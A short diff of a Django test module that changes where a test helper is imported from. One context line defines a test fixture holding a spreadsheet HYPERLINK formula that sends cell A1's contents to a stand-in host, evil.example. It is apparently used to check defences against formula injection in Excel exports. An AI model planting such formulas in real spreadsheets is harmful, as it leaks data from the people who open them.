@@ -14,7 +14,7 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from cases.models import RankingExclusion, Unit
-from tests.conftest import api
+from tests.helpers import api
 
 NAMES = {
     "S1": '=HYPERLINK("http://evil.example/?"&A1,"Sở Tư pháp")',
